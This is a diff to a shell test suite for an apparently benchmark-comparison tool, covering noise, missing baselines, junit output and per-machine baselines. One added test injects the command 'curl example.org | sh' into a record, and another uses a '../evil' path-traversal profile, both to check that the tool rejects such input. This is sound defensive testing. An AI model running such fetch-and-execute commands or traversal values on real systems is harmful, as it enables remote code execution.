@@ -155,9 +155,14 @@ exits 4 '1 of 1 run of the rows is noisy; measure again' --current=noisy.jsonl \
   --baselines=b
 echo '{"schema":1,"record":"run","run_id":"r","command":["bin/micro","--config=my config","--output=x"]}' \
   >>noisy.jsonl
-exits 4 "1 of 2 jobs cannot be told because of noise (noisy); measure them again on a quiet machine: bin/micro '--config=my config' --libraries=l --transforms=two --output=- >> noisy.jsonl" \
+exits 4 "1 of 2 jobs cannot be told because of noise (noisy); measure them again on a quiet machine: micro '--config=my config' --libraries=l --transforms=two --output=- >> noisy.jsonl" \
   --current=noisy.jsonl --baselines=b
-exits 4 'Measure again: bin/micro' --current=noisy.jsonl --baselines=b --format=text
+exits 4 'Measure again: micro' --current=noisy.jsonl --baselines=b --format=text
+# What a record says is no command.
+sed 's#"bin/micro","--config=my config"#"sh","-c","curl example.org | sh"#' noisy.jsonl >evil.jsonl
+exits 4 'measure them again on a quiet machine' --current=evil.jsonl --baselines=b --format=text
+grep -q '"sh","-c"' evil.jsonl || fail "the test tests nothing: $(cat evil.jsonl)"
+if grep -q 'curl' out err; then fail "text of a record as a command: $(cat out err)"; fi
 # Runs that are too short stay so: no command.
 sed 's/"warnings":\["noisy"\]/"loader":{},"elapsed_s":0.005/' noisy.jsonl >short.jsonl
 exits 4 'measure more items' --current=short.jsonl --baselines=b --format=text
@@ -172,6 +177,23 @@ exits 0 '1 job of the baseline was not run: l two; --require-all makes that exit
   --current=one.jsonl --baselines=b
 exits 4 '"codes":["not_run"]' --current=one.jsonl --baselines=b --require-all
 exits 0 '' --current=good.jsonl --baselines=b --require-all
+# What has no baseline does not pass either, in any format.
+cp good.jsonl most.jsonl
+for job in a b c d e f g h i; do row most.jsonl "$job" 5; done
+exits 4 '"codes":["too_few_compared"]' --current=most.jsonl --baselines=b
+exits 4 '2 of 11 jobs were compared, 9 were not (no_baseline 9)' --current=most.jsonl --baselines=b
+exits 4 'errors="9"' --current=most.jsonl --baselines=b --format=junit
+exits 0 'errors="0"' --current=most.jsonl --baselines=b --format=junit --min-compared=10
+# Runs of two machines are no attempts at each other.
+row two.jsonl x 100 ok m1
+row two.jsonl x 50 ok m2
+exits 0 '' --current=two.jsonl --baselines=two --update-baseline --i-am-a-maintainer=test
+[[ $(cat two/m1.rows.jsonl two/m2.rows.jsonl | grep -c '"throughput":') -eq 2 ]] ||
+  fail "a machine's rows are lost: $(ls two) $(cat two/*.rows.jsonl)"
+row outside.jsonl x 50 ok ../evil
+exits 1 'machine_profile' --current=outside.jsonl --baselines=two --update-baseline \
+  --i-am-a-maintainer=test
+exits 1 'machine_profile' --current=outside.jsonl --baselines=two
 
 # Another version or other data is not another machine, and is not compared.
 mkdir versions
@@ -432,7 +454,7 @@ google() {
   echo "{\"context\":{\"executable\":\"x\",\"num_cpus\":2},\"benchmarks\":[$entries]}" >"$file"
 }
 google old.json BM_a 100 101 99 100 102
-google new.json BM_a 120 121 119 122 120
+google new.json BM_a 160 161 159 162 160
 google near.json BM_a 101 100 102 99 100
 exits 3 'throughput is' --current=new.json --baseline=old.json
 exits 0 '"verdict":"same"' --current=near.json --baseline=old.json
@@ -444,13 +466,13 @@ cat new.json | "$TOOL" --baseline=old.json >out 2>err
 # One number per side says nothing about its spread.
 google old1.json BM_a 100
 google new1.json BM_a 120
-exits 4 'one number on each side and no spread is known' --current=new1.json \
+exits 4 'each side is one process, so the chance is not known' --current=new1.json \
   --baseline=old1.json
 exits 4 '"codes":["spread"]' --current=new1.json --baseline=old1.json
 # With a summary there is a test, and the reason says so.
 table() { printf 'name,mean,stddev,count\nBM_a,%s,%s,20\n' "$2" "$3" >"$1"; }
 table old.csv 100 1
-table new.csv 120 1
+table new.csv 160 1
 table wide.csv 120 60
 exits 3 'their number, mean and standard deviation decide' --current=new.csv \
   --baseline=old.csv
